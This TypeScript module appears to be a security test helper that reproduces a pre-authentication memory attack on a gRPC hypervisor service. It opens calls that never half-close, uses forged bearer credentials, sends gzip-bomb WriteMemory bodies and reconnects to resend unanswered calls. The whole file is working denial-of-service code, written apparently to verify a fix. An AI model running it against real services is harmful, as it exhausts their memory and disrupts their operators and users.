// SPDX-License-Identifier: Apache-2.0
/**
 * The pre-authentication memory attack (issue 9, finding 1): a peer with no valid credential
 * opens unary calls that never half-close, some carrying gzip bombs (a 16 MiB WriteMemory body
 * compresses to about 16 KiB), the rest only headers. A service that reads and decompresses a
 * request before checking its credential holds every body for as long as the calls stay open.
 * The attacker never ends a call itself; when the service closes a connection it reconnects and
 * sends the calls that were not answered again, until every call has been answered.
 */
import type { ClientHttp2Session } from "node:http2";
import { grpcFrame, openSession, startCall, writeMemoryRequest, type RawCall } from "./raw-grpc.js";

export interface PreAuthMemoryAttackOptions {
  /** The listener attacked, "host:port". */
  readonly address: string;
  /** The method called (default the guest's WriteMemory); its body is never valid anyway. */
  readonly path?: string;
  /** Calls carrying a gzip-compressed WriteMemory body (sent first). */
  readonly bombs: number;
  /** Size of each body before compression. */
  readonly bombBytes: number;
  /** Calls carrying only headers. */
  readonly emptyCalls: number;
  /** Connections open at once, each sending its share of the calls. */
  readonly connections: number;
  /** Picks the forged credential and the bodies' fill byte. */
  readonly seed: number;
}

export interface PreAuthMemoryAttack {
  /** Calls answered so far, by grpc-status. */
  readonly answered: Map<number, number>;
  /** Calls not answered yet. */
  remaining(): number;
  /** Connections opened so far (the service may close one; the attacker opens another). */
  connectionsOpened(): number;
  /** Bytes of bodies the attack put on the wire. */
  wireBytes(): number;
  /** Resolves when every call has been answered (the unfixed service never answers). */
  readonly done: Promise<void>;
  /** Stops and closes every connection. */
  close(): void;
}

/** A credential of the right shape for a domain that does not exist: it authenticates nothing. */
function forgedCredential(seed: number): string {
  const secret = Buffer.alloc(32, seed & 0xff).toString("base64url");
  return `${1 + (seed % 0x7fef)}.${secret}`;
}

export function startPreAuthMemoryAttack(options: PreAuthMemoryAttackOptions): PreAuthMemoryAttack {
  const authorization = `Bearer ${forgedCredential(options.seed)}`;
  const bomb = grpcFrame(
    writeMemoryRequest(16 * 4096, Buffer.alloc(options.bombBytes, options.seed & 0xff)),
    true,
  );
  const path = options.path ?? "/hmx.argo.v1.Hypervisor/WriteMemory";
  const answered = new Map<number, number>();
  const sessions = new Set<ClientHttp2Session>();
  let bombs = options.bombs;
  let opened = 0;
  let wire = 0;
  let stopped = false;

  /** One connection at a time: send a share of the calls, wait for each, repeat on a new one. */
  const worker = async (share: number): Promise<void> => {
    let left = share;
    while (left > 0 && !stopped) {
      const session = await openSession(options.address);
      opened++;
      sessions.add(session);
      const calls: { call: RawCall; withBomb: boolean }[] = [];
      for (let i = 0; i < left; i++) {
        const withBomb = bombs > 0;
        if (withBomb) {
          bombs--;
          wire += bomb.length;
        }
        calls.push({
          call: startCall(session, path, authorization, withBomb ? bomb : undefined),
          withBomb,
        });
      }
      await Promise.all(calls.map((c) => c.call.closed));
      session.destroy();
      sessions.delete(session);
      for (const { call, withBomb } of calls) {
        if (call.status === undefined) {
          // Not answered (its connection went away): it is sent again on the next one.
          if (withBomb) bombs++;
          continue;
        }
        answered.set(call.status, (answered.get(call.status) ?? 0) + 1);
        left--;
      }
    }
  };
  const total = options.bombs + options.emptyCalls;
  const shares = Array.from(
    { length: options.connections },
    (_, i) => Math.floor(total / options.connections) + (i < total % options.connections ? 1 : 0),
  );
  const done = Promise.all(shares.map(worker)).then(() => undefined);
  done.catch(() => undefined);
  return {
    answered,
    remaining: () => total - [...answered.values()].reduce((a, b) => a + b, 0),
    connectionsOpened: () => opened,
    wireBytes: () => wire,
    done,
    close() {
      stopped = true;
      for (const s of sessions) s.destroy();
    },
  };
}
